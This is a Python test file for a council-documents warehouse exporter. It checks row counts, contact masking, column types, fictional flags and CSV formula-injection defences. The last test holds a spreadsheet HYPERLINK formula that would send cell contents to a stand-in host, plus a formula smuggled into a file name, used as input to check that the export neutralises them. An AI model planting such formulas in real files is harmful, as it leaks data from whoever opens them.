"""Exporting the corpus warehouse: every row of every table, no contact detail left in any text."""

from __future__ import annotations

import json
from pathlib import Path

import duckdb
import polars as pl
import pytest

from councildocs.warehouse.errors import WarehouseMissing
from councildocs.warehouse.export import EXPORT_TABLES, export_warehouse
from councildocs.warehouse.privacy import mask_contacts


def test_corpus_export_is_complete_and_masked(corpus_db: Path, tmp_path: Path):
    written = export_warehouse(corpus_db, tmp_path, "jsonl")
    assert [w.table for w in written] == list(EXPORT_TABLES)
    with duckdb.connect(str(corpus_db), read_only=True) as con:
        counts = {t: con.execute(f"SELECT count(*) FROM {t}").fetchall()[0][0] for t in EXPORT_TABLES}
        stored_contacts = sum(
            mask_contacts(t) != t for (t,) in con.execute("SELECT text FROM documents WHERE text IS NOT NULL").fetchall()
        )
    assert {w.table: w.rows for w in written} == counts
    assert stored_contacts >= 5  # the corpus is full of recruiters' e-mails and phone numbers ...
    for item in written:
        for line in item.path.read_text(encoding="utf-8").splitlines():
            for value in json.loads(line).values():
                if isinstance(value, str):
                    assert mask_contacts(value) == value, (item.table, value[:80])  # ... none of which leaves
    facts = pl.read_ndjson(tmp_path / "facts.jsonl")
    assert all(isinstance(json.loads(f), dict) for f in facts["fields"].to_list())


def test_parquet_keeps_column_types(corpus_db: Path, tmp_path: Path):
    export_warehouse(corpus_db, tmp_path, "parquet")
    facts = pl.read_parquet(tmp_path / "facts.parquet")
    assert facts.schema["min_gbp"] == pl.Float64 and facts.schema["page"] == pl.Int32
    assert pl.read_parquet(tmp_path / "documents.parquet").schema["year"] == pl.Int32


def test_export_refuses_a_missing_warehouse_and_unknown_formats(tmp_path: Path, corpus_db: Path):
    with pytest.raises(WarehouseMissing):
        export_warehouse(tmp_path / "nowhere.duckdb", tmp_path / "out", "csv")
    assert not (tmp_path / "out").exists()
    with pytest.raises(ValueError, match="xml"):
        export_warehouse(corpus_db, tmp_path / "out", "xml")  # type: ignore[arg-type]


def test_every_exported_fact_and_document_says_whether_it_is_fictional(corpus_db: Path, real_db: Path,
                                                                        tmp_path: Path):
    export_warehouse(corpus_db, tmp_path / "samples", "csv")
    export_warehouse(real_db, tmp_path / "real", "csv")
    samples = pl.read_csv(tmp_path / "samples" / "facts.csv")
    assert samples.height > 200 and samples["fictional"].all()
    # codes come with their plain-English labels
    dcs = samples.filter(pl.col("role_category") == "dcs")
    assert dcs.height and set(dcs["role_category_label"]) == {"Director of Children's Services"}
    assert set(samples.filter(pl.col("kind") == "shared_post")["kind_label"]) == {"Shared post"}
    assert pl.read_csv(tmp_path / "samples" / "documents.csv")["fictional"].all()
    real = pl.read_csv(tmp_path / "real" / "documents.csv", infer_schema_length=None)
    assert not real["fictional"].any() and real["source_url"].str.starts_with("http").all()
    assert not pl.read_csv(tmp_path / "real" / "facts.csv", infer_schema_length=None)["fictional"].any()


def test_csv_export_never_runs_a_document_s_text_as_a_formula(tmp_path: Path):
    import csv as csv_module

    from councildocs.warehouse.privacy import FORMULA_TRIGGERS
    from councildocs.warehouse.store import Warehouse
    from councildocs.warehouse.testing import ok_result, salary_fact

    text = '=HYPERLINK("http://x.example/?"&A1,"Open") pays £120,000.'
    db = tmp_path / "w.duckdb"
    with Warehouse(db) as wh:
        wh.store(ok_result("@SUM(A1).txt", text, [salary_fact(text, "£120,000", ["E09000032"], 120000, 120000)],
                           [("E09000032", "Wandsworth")]))
    export_warehouse(db, tmp_path / "csv", "csv")
    export_warehouse(db, tmp_path / "jsonl", "jsonl")
    for table in ("documents", "facts"):
        with (tmp_path / "csv" / f"{table}.csv").open(encoding="utf-8", newline="") as fh:
            cells = [c for row in csv_module.reader(fh) for c in row]
        assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)], table
    documents = (tmp_path / "csv" / "documents.csv").read_text(encoding="utf-8")
    assert "'@SUM(A1).txt" in documents and "'=HYPERLINK(" in documents
    # JSON Lines keeps the exact text
    assert json.loads((tmp_path / "jsonl" / "documents.jsonl").read_text(encoding="utf-8"))["text"] == text
